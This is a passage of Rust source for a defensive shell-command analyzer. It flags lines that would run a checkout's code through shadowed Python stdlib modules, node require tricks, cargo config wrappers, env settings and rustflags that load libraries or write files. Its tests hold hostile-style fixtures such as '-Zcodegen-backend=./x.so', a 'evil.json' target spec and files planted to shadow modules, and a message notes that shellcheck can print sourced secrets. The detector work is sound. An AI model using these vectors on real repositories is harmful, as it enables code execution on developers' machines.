                for line in t.lines() {
                    let line = line.split('#').next().unwrap_or("");
                    if let Some((key, value)) = line.split_once('=') {
                        let on = value.trim().eq_ignore_ascii_case("true");
                        match key.trim() {
                            "external-sources" => ext |= on,
                            "check-sourced" => src |= on,
                            _ => {}
                        }
                    }
                }
            }
            _ => (ext, src) = (true, true),
        }
        ext && src
    });
    (both || external && sourced).then(|| {
        "shellcheck follows `source` to any file (external sources) and prints the findings in sourced files with their lines: a script of the checkout can source a secret (`~/.env`, a key) and have it printed".to_owned()
    })
}

crate::programs::name_set! {
    /// The standard library's modules (`sys.stdlib_module_names` of Python 3.11, with the modules
    /// later versions add): `python -m MOD` imports them from the working directory first.
    fn is_python_stdlib, PYTHON_STDLIB = [
        "__future__",
        "_abc",
        "_aix_support",
        "_android_support",
        "_ast",
        "_asyncio",
        "_bisect",
        "_blake2",
        "_bootsubprocess",
        "_bz2",
        "_codecs",
        "_codecs_cn",
        "_codecs_hk",
        "_codecs_iso2022",
        "_codecs_jp",
        "_codecs_kr",
        "_codecs_tw",
        "_collections",
        "_collections_abc",
        "_colorize",
        "_compat_pickle",
        "_compression",
        "_contextvars",
        "_crypt",
        "_csv",
        "_ctypes",
        "_curses",
        "_curses_panel",
        "_datetime",
        "_dbm",
        "_decimal",
        "_elementtree",
        "_frozen_importlib",
        "_frozen_importlib_external",
        "_functools",
        "_gdbm",
        "_hashlib",
        "_heapq",
        "_imp",
        "_interpchannels",
        "_interpqueues",
        "_interpreters",
        "_io",
        "_ios_support",
        "_json",
        "_locale",
        "_lsprof",
        "_lzma",
        "_markupbase",
        "_md5",
        "_msi",
        "_multibytecodec",
        "_multiprocessing",
        "_opcode",
        "_opcode_metadata",
        "_operator",
        "_osx_support",
        "_overlapped",
        "_pickle",
        "_posixshmem",
        "_posixsubprocess",
        "_py_abc",
        "_pydecimal",
        "_pyio",
        "_pylong",
        "_pyrepl",
        "_queue",
        "_random",
        "_scproxy",
        "_sha1",
        "_sha256",
        "_sha3",
        "_sha512",
        "_signal",
        "_sitebuiltins",
        "_socket",
        "_sqlite3",
        "_sre",
        "_ssl",
        "_stat",
        "_statistics",
        "_string",
        "_strptime",
        "_struct",
        "_symtable",
        "_thread",
        "_threading_local",
        "_tkinter",
        "_tokenize",
        "_tracemalloc",
        "_typing",
        "_uuid",
        "_warnings",
        "_weakref",
        "_weakrefset",
        "_winapi",
        "_zoneinfo",
        "abc",
        "aifc",
        "annotationlib",
        "antigravity",
        "argparse",
        "array",
        "ast",
        "asynchat",
        "asyncio",
        "asyncore",
        "atexit",
        "audioop",
        "base64",
        "bdb",
        "binascii",
        "bisect",
        "builtins",
        "bz2",
        "cProfile",
        "calendar",
        "cgi",
        "cgitb",
        "chunk",
        "cmath",
        "cmd",
        "code",
        "codecs",
        "codeop",
        "collections",
        "colorsys",
        "compileall",
        "compression",
        "concurrent",
        "configparser",
        "contextlib",
        "contextvars",
        "copy",
        "copyreg",
        "crypt",
        "csv",
        "ctypes",
        "curses",
        "dataclasses",
        "datetime",
        "dbm",
        "decimal",
        "difflib",
        "dis",
        "distutils",
        "doctest",
        "email",
        "encodings",
        "ensurepip",
        "enum",
        "errno",
        "faulthandler",
        "fcntl",
        "filecmp",
        "fileinput",
        "fnmatch",
        "fractions",
        "ftplib",
        "functools",
        "gc",
        "genericpath",
        "getopt",
        "getpass",
        "gettext",
        "glob",
        "graphlib",
        "grp",
        "gzip",
        "hashlib",
        "heapq",
        "hmac",
        "html",
        "http",
        "idlelib",
        "imaplib",
        "imghdr",
        "imp",
        "importlib",
        "inspect",
        "io",
        "ipaddress",
        "itertools",
        "json",
        "keyword",
        "lib2to3",
        "linecache",
        "locale",
        "logging",
        "lzma",
        "mailbox",
        "mailcap",
        "marshal",
        "math",
        "mimetypes",
        "mmap",
        "modulefinder",
        "msilib",
        "msvcrt",
        "multiprocessing",
        "netrc",
        "nis",
        "nntplib",
        "nt",
        "ntpath",
        "nturl2path",
        "numbers",
        "opcode",
        "operator",
        "optparse",
        "os",
        "ossaudiodev",
        "pathlib",
        "pdb",
        "pickle",
        "pickletools",
        "pipes",
        "pkgutil",
        "platform",
        "plistlib",
        "poplib",
        "posix",
        "posixpath",
        "pprint",
        "profile",
        "pstats",
        "pty",
        "pwd",
        "py_compile",
        "pyclbr",
        "pydoc",
        "pydoc_data",
        "pyexpat",
        "queue",
        "quopri",
        "random",
        "re",
        "readline",
        "reprlib",
        "resource",
        "rlcompleter",
        "runpy",
        "sched",
        "secrets",
        "select",
        "selectors",
        "shelve",
        "shlex",
        "shutil",
        "signal",
        "site",
        "smtpd",
        "smtplib",
        "sndhdr",
        "socket",
        "socketserver",
        "spwd",
        "sqlite3",
        "sre_compile",
        "sre_constants",
        "sre_parse",
        "ssl",
        "stat",
        "statistics",
        "string",
        "stringprep",
        "struct",
        "subprocess",
        "sunau",
        "symtable",
        "sys",
        "sysconfig",
        "syslog",
        "tabnanny",
        "tarfile",
        "telnetlib",
        "tempfile",
        "termios",
        "textwrap",
        "this",
        "threading",
        "time",
        "timeit",
        "tkinter",
        "token",
        "tokenize",
        "tomllib",
        "trace",
        "traceback",
        "tracemalloc",
        "tty",
        "turtle",
        "turtledemo",
        "types",
        "typing",
        "unicodedata",
        "unittest",
        "urllib",
        "uu",
        "uuid",
        "venv",
        "warnings",
        "wave",
        "weakref",
        "webbrowser",
        "winreg",
        "winsound",
        "wsgiref",
        "xdrlib",
        "xml",
        "xmlrpc",
        "zipapp",
        "zipfile",
        "zipimport",
        "zlib",
        "zoneinfo",
    ]
}

/// The module a directory entry would be imported as: `NAME.py`, `NAME.pyc`, `NAME.pyw`, an
/// extension module (`NAME.so`, `NAME.cpython-312-x86_64-linux-gnu.so`, `NAME.pyd`), or a
/// package (`NAME/__init__.py`, recognised by the caller).
fn module_name(file: &str) -> Option<&str> {
    let (stem, ext) = file.rsplit_once('.')?;
    match ext {
        "py" | "pyc" | "pyw" => Some(stem),
        "so" | "pyd" => stem.split('.').next(),
        _ => None,
    }
}

/// A module or package in `dir` (or one the line writes there) named like a standard library
/// module: with `python -m`, the working directory comes first on `sys.path`, so it is imported
/// instead of the library's (`optparse.py` runs on `python -m pip list`).
fn shadowed_stdlib(dir: &Path, w: &LineWrites) -> Option<PathBuf> {
    let stdlib = is_python_stdlib;
    // The name first (most are no module of the library), then what the entry is: the
    // directory listing says, without a look at each file.
    let on_disk = std::fs::read_dir(dir).ok().and_then(|entries| {
        entries.flatten().find_map(|e| {
            let file = e.file_name();
            let name = file.to_str()?;
            let package = stdlib(name)
                && e.file_type().map_or(true, |t| t.is_dir() || t.is_symlink())
                && e.path().is_dir()
                && e.path().join("__init__.py").exists();
            let module = || module_name(name).is_some_and(stdlib) && !e.path().is_dir();
            (package || module()).then(|| e.path())
        })
    });
    on_disk.or_else(|| w.written_module(dir, &stdlib))
}

/// `python -c CODE` that the one-liner reader proves to only print, importing a module the
/// working directory can replace (`import platform`: `-c` puts the directory first on
/// `sys.path`): `platform.py` or `platform/` there, or any module named like a standard
/// library one (which `platform` imports in turn).
fn inline_imports_shadowed(u: &Unit, dir: &Path, w: &LineWrites) -> Option<String> {
    // `-c CODE` (`-cCODE`) as Python's table reads the options before it (every version
    // and PyPy read them as CPython 3 does).
    let code = crate::programs::tables::builtin_option("python3", &u.argv, "-c")?.value?;
    let code = code.as_str();
    let imports = crate::analyze::inline_code::python_imports(code)?;
    for m in &imports {
        if let Some(shadow) = [dir.join(format!("{m}.py")), dir.join(m)]
            .into_iter()
            .find(|f| w.has(f) || w.cx.look.exists(f))
        {
            return Some(format!(
                "`import {m}` in the one-liner imports `{}` from the working directory before the installed module",
                shadow.display()
            ));
        }
    }
    if imports.is_empty() {
        return None;
    }
    let shadow = shadowed_stdlib(dir, w)?;
    Some(format!(
        "`python -c` puts the working directory first on the import path, and `{}` there takes the place of the standard library module it is named after (imported by the one-liner's modules)",
        shadow.display()
    ))
}

/// `node -p CODE` that the one-liner reader proves to only print, reading a manifest with
/// `require('./package.json')`: `require` parses a regular file named `.json` as JSON, but
/// where the name is missing, a directory or a link the line or the checkout may point
/// elsewhere, it runs `package.json.js` or `package.json/index.js` instead. Each manifest must
/// be a regular file now, and the line must not write it.
fn node_manifests_unproven(u: &Unit, dir: &Path, w: &LineWrites) -> Option<String> {
    let code = ["-e", "--eval", "-p", "--print"]
        .iter()
        .find_map(|o| crate::programs::tables::builtin_option("node", &u.argv, o)?.value)?;
    let manifests = crate::analyze::inline_code::node_manifests(&code)?;
    manifests.iter().find_map(|m| {
        let f = dir.join(m.strip_prefix("./").unwrap_or(m));
        let plain = !w.has(&f) && w.cx.look.lstat(&f) == crate::files::Kind::File;
        (!plain).then(|| {
            format!(
                "`require('{m}')` reads `{}` as JSON only when it is a regular file: a missing name or a directory makes `require` run `{m}.js` or `{m}/index.js`",
                f.display()
            )
        })
    })
}

/// The module of `python -m MOD` (also `-mMOD`), as Python's table reads the options before
/// it (`python3 -W ignore -m pip`); none after a script operand or `-c`.
fn python_module(u: &Unit) -> Option<String> {
    crate::programs::tables::builtin_option("python3", &u.argv, "-m")?.value
}

/// Whether the TOML file says yes; a file that cannot be read or parsed says yes too.
fn toml_has(f: &Path, test: &dyn Fn(&toml::Table) -> bool) -> bool {
    match std::fs::read_to_string(f)
        .ok()
        .and_then(|t| t.parse::<toml::Table>().ok())
    {
        Some(t) => test(&t),
        None => true,
    }
}

/// Whether the table has a value at `path`.
fn has_key(t: &toml::Table, path: &[&str]) -> bool {
    let mut cur = t;
    for (k, key) in path.iter().enumerate() {
        match cur.get(*key) {
            Some(toml::Value::Table(next)) => cur = next,
            Some(_) => return k + 1 == path.len(),
            None => return false,
        }
    }
    true
}

/// How deep a chain of cargo configuration files naming one another (`include`) is followed;
/// a longer one counts as saying yes.
const MAX_CARGO_INCLUDES: usize = 8;

/// Whether the cargo configuration file `f`, or a file it includes, says yes to `test`. cargo
/// merges the files a configuration names in `include` (a path, a list of paths, or tables
/// with a `path` and `optional`; relative to the including file's directory, each able to
/// include more) as if the including file held them: `include = ["other.toml"]` in
/// `.cargo/config.toml` with `build.rustc-wrapper` in `.cargo/other.toml` makes `cargo
/// metadata` run the wrapper. A file that cannot be read as TOML, an entry that is no path, an
/// included file the line writes, and a chain deeper than [`MAX_CARGO_INCLUDES`] say yes; an
/// included file that does not exist says nothing (cargo stops with an error, or skips an
/// optional one).
fn cargo_config_says(
    f: &Path,
    w: &LineWrites,
    test: &dyn Fn(&toml::Table) -> bool,
    depth: usize,
) -> bool {
    let Some(t) =
        w.cx.look
            .read_to_string(f)
            .ok()
            .and_then(|t| t.parse::<toml::Table>().ok())
    else {
        return true;
    };
    if test(&t) {
        return true;
    }
    let Some(include) = t.get("include") else {
        return false;
    };
    if depth >= MAX_CARGO_INCLUDES {
        return true;
    }
    let entries = match include {
        toml::Value::Array(a) => a.iter().collect(),
        one => vec![one],
    };
    let base = f.parent().unwrap_or(f);
    entries.into_iter().any(|e| {
        let path = match e {
            toml::Value::String(p) => Some(p.as_str()),
            toml::Value::Table(e) => e.get("path").and_then(toml::Value::as_str),
            _ => None,
        };
        let Some(path) = path else {
            return true;
        };
        let inc = base.join(path);
        w.has(&inc) || w.cx.look.is_file(&inc) && cargo_config_says(&inc, w, test, depth + 1)
    })
}

/// Whether a cargo config binds a registry name to an index of its own choosing: a
/// `[registries.NAME]` table with an `index`, a `[source.NAME]` replacement that is a
/// `registry`, or `registry.default` / `registry.index`. cargo looks the token up by the name
/// (`~/.cargo/credentials.toml`, `CARGO_REGISTRIES_NAME_TOKEN`, a credential provider) and
/// sends it to the index when the index asks for it (`"auth-required": true` in its
/// `config.json`): `cargo tree`, `cargo metadata` and `cargo search` read the index.
fn cargo_config_binds_registry(t: &toml::Table) -> bool {
    let named = |table: &str, key: &str| {
        t.get(table)
            .and_then(toml::Value::as_table)
            .is_some_and(|rs| {
                rs.values()
                    .filter_map(toml::Value::as_table)
                    .any(|r| r.contains_key(key))
            })
    };
    has_key(t, &["registry", "default"])
        || has_key(t, &["registry", "index"])
        || named("registries", "index")
        || named("source", "registry")
}

/// Whether a cargo config routes cargo's HTTP requests where the checkout chooses: through a
/// proxy (`http.proxy`), or trusting a certificate authority or revocation setting it names
/// (`http.cainfo`, `http.proxy-cainfo`, `http.check-revoke`). With a proxy that holds a key
/// of that authority, the requests are read in the clear, the token cargo sends for the
/// registry (`cargo owner --list`) among them.
fn cargo_config_intercepts(t: &toml::Table) -> bool {
    ["proxy", "cainfo", "proxy-cainfo", "check-revoke"]
        .iter()
        .any(|k| has_key(t, &["http", k]))
}

/// Whether a cargo config names a program cargo runs for `sub` (the subcommand, if any).
fn cargo_config_runs(t: &toml::Table, sub: Option<&str>) -> bool {
    let build = [
        "rustc-wrapper",
        "rustc-workspace-wrapper",
        "rustc",
        "rustdoc",
    ]
    .iter()
    .any(|k| has_key(t, &["build", k]));
    let targets = t
        .get("target")
        .and_then(toml::Value::as_table)
        .is_some_and(|ts| {
            ts.values()
                .filter_map(toml::Value::as_table)
                .any(|x| x.contains_key("runner") || x.contains_key("linker"))
        });
    let credentials = has_key(t, &["registry", "credential-provider"])
        || has_key(t, &["registry", "global-credential-providers"])
        || t.get("registries")
            .and_then(toml::Value::as_table)
            .is_some_and(|rs| {
                rs.values()
                    .filter_map(toml::Value::as_table)
                    .any(|r| r.contains_key("credential-provider"))
            });
    let alias = sub.is_some_and(|s| has_key(t, &["alias", s]));
    // cargo applies `[env]` to every rustc it starts, the target probe of `cargo metadata` and
    // `cargo tree` included: `LD_PRELOAD`, `PATH` (with `force`), `RUSTUP_TOOLCHAIN` naming a
    // directory of the checkout change what that rustc runs.
    let env = t
        .get("env")
        .and_then(toml::Value::as_table)
        .is_some_and(|e| {
            e.keys()
                .any(|k| crate::programs::environment::loads_code(k))
        });
    // `build.target` is the platform cargo asks rustc about, for `cargo metadata` and `cargo
    // tree` too: a name rustc does not know by name is a target specification file (NAME.json
    // in the working directory, or the `.json` path), whose codegen backend is a library rustc
    // loads.
    let spec = t
        .get("build")
        .and_then(toml::Value::as_table)
        .and_then(|b| b.get("target"))
        .is_some_and(|v| {
            let unknown = |x: &toml::Value| {
                x.as_str()
                    .is_none_or(|s| !crate::programs::is_builtin_rust_target(s))
            };
            match v {
                toml::Value::Array(a) => a.iter().any(unknown),
                other => unknown(other),
            }
        });
    build || targets || credentials || alias || env || spec || rustflags_load_code(t)
}

/// Whether every rustc flag of a list (a config's `rustflags`, or `RUSTFLAGS`) is one known to
/// leave rustc's target probe harmless: lint levels (`-D warnings`, `--cap-lints`), `--cfg`,
/// and the code-generation settings of [`HARMLESS_CODEGEN`]. cargo runs rustc with these flags
/// to learn about the target even for `cargo metadata` and `cargo tree`, and any other flag may
/// load a library into rustc (`-Z codegen-backend=./x.so`, `-Z llvm-plugins=…`), write a file
/// (`--print=cfg=PATH`, `--emit`, `-o`) or read more flags from one (`@FILE`) before it answers.
pub(super) fn rustc_flags_harmless<'a>(flags: impl IntoIterator<Item = &'a str>) -> bool {
    let name = |w: &str| {
        !w.is_empty()
            && w.bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b':' | b'.'))
    };
    let codegen = |kv: &str| {
        let key = kv.split_once('=').map_or(kv, |(k, _)| k);
        HARMLESS_CODEGEN.contains(&key)
            && kv
                .split_once('=')
                .is_none_or(|(_, v)| v.bytes().all(|b| b != b'/' && b != b'@'))
    };
    let mut words = flags.into_iter();
    while let Some(w) = words.next() {
        let ok = match w {
            "-D" | "-W" | "-A" | "-F" | "--deny" | "--warn" | "--allow" | "--forbid"
            | "--force-warn" | "--cap-lints" | "--cfg" => words.next().is_some_and(name),
            "-C" | "--codegen" => words.next().is_some_and(codegen),
            _ => {
                if let Some(rest) = [
                    "--deny=",
                    "--warn=",
                    "--allow=",
                    "--forbid=",
                    "--cap-lints=",
                    "--cfg=",
                ]
                .iter()
                .find_map(|p| w.strip_prefix(p))
                {
                    name(rest)
                } else if let Some(rest) = w.strip_prefix("--codegen=") {
                    codegen(rest)
                } else if let Some(rest) = w.strip_prefix("-C") {
                    codegen(rest)
                } else if let Some(rest) = ["-D", "-W", "-A", "-F"]
                    .iter()
                    .find_map(|p| w.strip_prefix(p))
                {
                    name(rest)
                } else {
                    false
                }
            }
        };
        if !ok {
            return false;
        }
    }
    true
}

/// `-C` settings that change only the code rustc would generate, never what it reads, writes or
/// runs (no paths, no programs: `linker`, `link-arg`, `incremental`, `profile-*`,
/// `llvm-args` are left out).
const HARMLESS_CODEGEN: &[&str] = &[
    "target-cpu",
    "target-feature",
    "opt-level",
    "debuginfo",
    "debug-assertions",
    "overflow-checks",
    "force-frame-pointers",
    "force-unwind-tables",
    "codegen-units",
    "strip",
    "lto",
    "embed-bitcode",
    "panic",
    "relocation-model",
    "code-model",
    "symbol-mangling-version",
    "split-debuginfo",
    "prefer-dynamic",
    "no-redzone",
    "soft-float",
    "relro-level",
    "instrument-coverage",
];

/// rustc flags of the config (`build.rustflags`, `build.rustdocflags`, a target's or the
/// host's `rustflags`) not all known to be harmless ([`rustc_flags_harmless`]).
fn rustflags_load_code(t: &toml::Table) -> bool {
    let loads = |v: &toml::Value| match v {
        toml::Value::String(s) => !rustc_flags_harmless(s.split_whitespace()),
        toml::Value::Array(a) => {
            a.iter().any(|x| !x.is_str())
                || !rustc_flags_harmless(a.iter().filter_map(toml::Value::as_str))
        }
        _ => true,
    };
    let in_table = |x: &toml::Table| {
        ["rustflags", "rustdocflags"]
            .iter()
            .filter_map(|k| x.get(*k))
            .any(loads)
    };
    ["build", "host"]
        .iter()
        .filter_map(|k| t.get(*k).and_then(toml::Value::as_table))
        .any(in_table)
        || t.get("target")
            .and_then(toml::Value::as_table)
            .is_some_and(|ts| ts.values().filter_map(toml::Value::as_table).any(in_table))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyze::analyze;

    /// [`found_in_checkout`] for the first unit named `name` of `cmd`, run in `dir` with
    /// `search` as `PATH`.
    fn found_on(dir: &Path, cmd: &str, name: &str, search: &[&str]) -> Option<Found> {
        let a = analyze(cmd, &crate::Limits::default());
        let cx = CheckCtx::new(&a, dir);
        let w = LineWrites::new(&cx);
        let search: Vec<PathBuf> = search.iter().map(PathBuf::from).collect();
        let (u, d) = a
            .units
            .iter()
            .zip(&w.dirs)
            .find(|(u, _)| prog(u) == Some(name))?;
        found_in_checkout(name, u, d.as_deref()?, dir, &w, &search)
    }

    #[test]
    fn a_program_found_on_path_in_the_checkout_is_its_code() {
        let tmp = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(tmp.path()).unwrap();
        let venv = root.join(".venv/bin");
        std::fs::create_dir_all(&venv).unwrap();
        std::fs::write(venv.join("pip"), "#!/bin/sh\n").unwrap();
        std::fs::write(root.join("zz-tool"), "#!/bin/sh\n").unwrap();
        let venv_s = venv.to_str().unwrap();
        // An activated virtual environment first on PATH.
        assert_eq!(
            found_on(&root, "pip list", "pip", &[venv_s, "/usr/bin", "/bin"]),
            Some(Found::File(venv.join("pip")))
        );
        // Found outside the checkout first (`sh` is in /bin or /usr/bin everywhere).
        assert_eq!(
            found_on(&root, "sh -c x", "sh", &["/usr/bin", "/bin", venv_s]),
            None
        );
        // Not there at all: nothing found in the checkout.
        assert_eq!(
            found_on(&root, "zz-none", "zz-none", &[venv_s, "/usr/bin"]),
            None
        );
        // Relative and empty entries are the directory the unit runs in.
        for entry in [".", ""] {
            assert_eq!(
                found_on(&root, "zz-tool x", "zz-tool", &["/usr/bin", entry]),
                Some(Found::File(root.join("zz-tool"))),
                "{entry:?}"
            );
        }
        // The line writes it there first.
        assert_eq!(
            found_on(
                &root,
                "cp /tmp/x .venv/bin/zz-new && zz-new",
                "zz-new",
                &[venv_s, "/usr/bin"]
            ),
            Some(Found::File(venv.join("zz-new")))
        );
        // A relative entry and a directory known only at run time.
        assert_eq!(
            found_on(&root, "cd \"$D\" && zz-none", "zz-none", &["/usr/bin", "."]),
            Some(Found::Moved(PathBuf::from(".")))
        );
        assert_eq!(
            found_on(&root, "cd - && zz-none", "zz-none", &["/usr/bin", "."]),
            Some(Found::Moved(PathBuf::from(".")))
        );
        // No entry in the checkout: nothing is looked at.
        assert_eq!(
            found_on(&root, "zz-tool", "zz-tool", &["/usr/bin", "/bin"]),
            None
        );
    }

    /// [`helper_in_checkout`] for the first unit of `cmd` that runs helpers by name, run in
    /// `dir` with `search` as `PATH`.
    fn helper_on(dir: &Path, cmd: &str, search: &[&str]) -> Option<(&'static str, Found)> {
        let a = analyze(cmd, &crate::Limits::default());
        let cx = CheckCtx::new(&a, dir);
        let w = LineWrites::new(&cx);
        let search: Vec<PathBuf> = search.iter().map(PathBuf::from).collect();
        let (u, d) = a.units.iter().zip(&w.dirs).find(|(u, _)| {
            prog(u).is_some_and(|p| {
                !crate::programs::path_helpers(crate::programs::base(p)).is_empty()
            })
        })?;
        let base = crate::programs::base(prog(u)?);
        helper_in_checkout(base, u, d.as_deref()?, dir, &w, &search)
    }

    #[test]
    fn a_helper_a_program_runs_by_name_found_in_the_checkout_is_its_code() {
        let tmp = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(tmp.path()).unwrap();
        let bin = root.join("bin");
        std::fs::create_dir_all(&bin).unwrap();
        for helper in ["gzip", "less", "node"] {
            std::fs::write(bin.join(helper), "#!/bin/sh\n").unwrap();
        }
        let twin = tempfile::tempdir().unwrap();
        let twin = std::fs::canonicalize(twin.path()).unwrap();
        std::fs::create_dir_all(twin.join("bin")).unwrap();
        let sys = ["/usr/local/bin", "/usr/bin", "/bin"];
        for (cmd, helper) in [
            ("tar -tzf x.tgz", "gzip"),
            ("/usr/bin/tar -tf x.tgz", "gzip"),
            ("rg -z p logs/", "gzip"),
            ("zgrep p x.gz", "gzip"),
            ("git log", "less"),
            ("man ls", "less"),
            ("journalctl -n 5", "less"),
            ("dmesg -H", "less"),
            ("dpkg-deb -c x.deb", "gzip"),
            ("npm ls", "node"),
            ("npx --version", "node"),
            ("tsc --version", "node"),
        ] {
            for entry in ["bin", bin.to_str().unwrap()] {
                let search: Vec<&str> = [entry].into_iter().chain(sys).collect();
                let expect = root.join("bin").join(helper);
                assert_eq!(
                    helper_on(&root, cmd, &search),
                    Some((helper, Found::File(expect))),
                    "{cmd} with {entry} first"
                );
                // The twin: `bin` on `PATH` but no helper there; the system's is found.
                let twin_entry = if entry == "bin" {
                    "bin"
                } else {
                    twin.to_str().unwrap()
                };
                let search: Vec<&str> = [twin_entry].into_iter().chain(sys).collect();
                assert_eq!(helper_on(&twin, cmd, &search), None, "{cmd} in the twin");
            }
            // The checkout's directory after the system's: the system's helper runs.
            let mut search: Vec<&str> = sys.to_vec();
            search.push("bin");
            assert_eq!(helper_on(&root, cmd, &search), None, "{cmd} with bin last");
            // No `PATH` entry in the checkout: nothing is looked at.
            assert_eq!(helper_on(&root, cmd, &sys), None, "{cmd} without bin");
        }
        // A program that runs no helper by name is not asked about them.
        assert_eq!(helper_on(&root, "ls -l", &["bin", "/usr/bin"]), None);
        // A helper the line writes there first counts as found.
        assert_eq!(
            helper_on(
                &twin,
                "cp /tmp/x bin/xz && tar -tJf x.txz",
                &["bin", "/usr/bin"]
            ),
            Some(("xz", Found::File(twin.join("bin/xz"))))
        );
    }

    #[test]
    fn the_name_sets_answer_for_their_lists() {
        for (is, list) in [
            (is_project_reader as fn(&str) -> bool, PROJECT_READERS),
            (is_python_stdlib, PYTHON_STDLIB),
        ] {
            crate::programs::assert_name_set(is, list);
        }
    }

    /// The finding on `cmd` run in `dir`, looked at now; a batch's snapshot of the same
    /// directory (taken afresh) finds the same.
    fn flagged(dir: &Path, cmd: &str) -> Option<String> {
        let a = analyze(cmd, &crate::Limits::default());
        let snapshot = crate::files::Snapshot::new(dir.to_path_buf());
        let found = [None, Some(&snapshot)].map(|snap| {
            let mut cx = CheckCtx::new(&a, dir);
            cx.look = crate::files::Look::from(snap);
            let written = LineWrites::new(&cx);
            a.units
                .iter()
                .find_map(|u| reads_code(u, dir, &cx, &written))
        });
        assert_eq!(found[0], found[1], "{cmd}: looked at now and in a snapshot");
        found[0].clone()
    }

    /// A program run outside the checkout reads the project files of every directory above
    /// it too, up to the home or a directory above the home (a clone beside the checkout, a
    /// directory under `/tmp`): `cd OUTSIDE/sub && cargo metadata` with a wrapper in
    /// `OUTSIDE/.cargo/config.toml` is the other project's code.
    #[test]
    fn outside_the_checkout_the_parents_are_read_too() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let base = std::fs::canonicalize(t.path()).unwrap_or_else(|e| panic!("{e}"));
        let root = base.join("checkout");
        let other = base.join("other");
        for d in [
            root.join("src"),
            other.join("sub/deep"),
            other.join(".cargo"),
        ] {
            std::fs::create_dir_all(d).unwrap_or_else(|e| panic!("{e}"));
        }
        std::fs::write(
            other.join(".cargo/config.toml"),
            "[build]\nrustc-wrapper = \"/tmp/w\"\n",
        )
        .unwrap_or_else(|e| panic!("{e}"));
        std::fs::write(other.join("Cargo.toml"), "[package]\nname = \"o\"\n")
            .unwrap_or_else(|e| panic!("{e}"));
        let other_s = other.to_string_lossy();
        let asks = |cmd: &str| {
            let a = analyze(cmd, &crate::Limits::default());
            let cx = CheckCtx::new(&a, &root);
            let mut out = Vec::new();
            WorkspaceCode.run(&cx, &mut out);
            !out.is_empty()
        };
        for cmd in [
            format!("cd {other_s}/sub && cargo metadata"),
            format!("cd {other_s}/sub/deep && cargo metadata"),
            format!("cd {other_s} && cargo metadata"),
        ] {
            assert!(asks(&cmd), "{cmd}");
        }
        // The checkout has no such file, and a directory of the checkout is read up to its
        // root only.
        assert!(!asks("cd src && cargo metadata"));
        // The parents of a directory outside stop below the home (its files are the
        // person's), and nothing above the home is read.
        let home = crate::files::home();
        let ab = home.join("a/b");
        let dirs: Vec<&Path> = project_dirs(&ab, &root).collect();
        assert_eq!(dirs, [ab.as_path(), home.join("a").as_path()]);
        let dirs: Vec<&Path> = project_dirs(&home, &root).collect();
        assert_eq!(dirs, [home.as_path()]);
    }

    /// A file the line writes is not on disk when the check looks: it counts as there, with
    /// content that runs code. The harmless twins write elsewhere.
    #[test]
    fn files_the_line_writes_count_as_present() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        let rows: &[(&str, bool)] = &[
            ("cp x pip.py && python3 -m pip list", true),
            ("cp x notes.txt && python3 -m pip list", false),
            (
                "mkdir -p pip && cp x pip/__main__.py; python3 -m pip list",
                true,
            ),
            ("echo x > .pnpmfile.cjs; pnpm ls", true),
            ("echo x > notes.md; pnpm ls", false),
            ("tee .cargo/config.toml < x; cargo metadata", true),
            ("tee target/x.toml < x; cargo metadata", false),
            ("cd sub && cp x ../tools/bazel; cd .. && bazel info", true),
            ("cd sub && cp x tools/bazel; cd .. && bazel info", false),
            ("cp x tools/bazel; bazel info", true),
            ("cp x .gdbinit && gdb -batch ./a.out", true),
            ("cp x .venv/bin/python && uv pip list", true),
            ("echo x > .yarnrc.yml && yarn --version", true),
            ("echo x > README.md && yarn --version", false),
        ];
        for (cmd, expect) in rows {
            assert_eq!(flagged(root, cmd).is_some(), *expect, "{cmd}");
        }
    }

    fn write(root: &Path, file: &str, text: &str) {
        let f = root.join(file);
        std::fs::create_dir_all(f.parent().unwrap_or(root)).unwrap_or_else(|e| panic!("{e}"));
        std::fs::write(f, text).unwrap_or_else(|e| panic!("{e}"));
    }

    #[test]
    fn cargo_config_wrappers_toolchain_paths_and_aliases() {
        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = t.path();
        assert_eq!(flagged(root, "cargo tree"), None);
        write(
            root,
            ".cargo/config.toml",
            "[net]\nretry = 3\n[alias]\nb = \"build\"\n",
        );
        assert_eq!(flagged(root, "cargo metadata"), None);
        assert!(
            flagged(root, "cargo b").is_some(),
            "an alias of the subcommand"
        );
        write(
            root,
            ".cargo/config.toml",
            "[build]\nrustc-wrapper = \"./x\"\n",
        );
        assert!(flagged(root, "cargo metadata --format-version 1").is_some());
        assert!(flagged(root, "cargo --version").is_some());
        write(
            root,
            ".cargo/config.toml",
            "[target.x86_64-unknown-linux-gnu]\nrunner = \"./x\"\n",
        );
        assert!(flagged(root, "cargo tree").is_some());
        for cfg in [
            "[build]\ntarget = \"evil.json\"\n",
            "[build]\ntarget = \"x86_64-evil-linux\"\n",
            "[build]\ntarget = [\"x86_64-unknown-linux-gnu\", \"./t.json\"]\n",
        ] {
            write(root, ".cargo/config.toml", cfg);
            assert!(flagged(root, "cargo metadata").is_some(), "{cfg}");
            assert!(flagged(root, "cargo tree").is_some(), "{cfg}");
        }
        write(
            root,
            ".cargo/config.toml",
            "[build]\ntarget = [\"x86_64-unknown-linux-gnu\", \"wasm32-unknown-unknown\"]\n",
        );
        assert_eq!(flagged(root, "cargo tree"), None);
        write(
            root,
            ".cargo/config.toml",
            "[build]\nrustflags = [\"-C\", \"target-cpu=native\", \"-Dwarnings\", \"--cfg\", \"tokio_unstable\"]\n",
        );
        assert_eq!(flagged(root, "cargo tree"), None);
        for cfg in [
            "[build]\nrustflags = [\"-Z\", \"codegen-backend=./x.so\"]\n",
            "[target.'cfg(unix)']\nrustflags = \"-Zllvm-plugins=./p.so\"\n",
            "[host]\nrustflags = [\"-Zcodegen-backend=/tmp/x.so\"]\n",
            "[build]\nrustflags = [\"--print=cfg=/home/u/.bashrc\"]\n",
            "[build]\nrustflags = \"--cfg x --print cfg=out.txt\"\n",
            "[target.x86_64-unknown-linux-gnu]\nrustflags = [\"--print\", \"cfg=out\"]\n",
            "[build]\nrustflags = [\"@flags.txt\"]\n",
        ] {
            write(root, ".cargo/config.toml", cfg);
            assert!(flagged(root, "cargo metadata").is_some(), "{cfg}");
        }
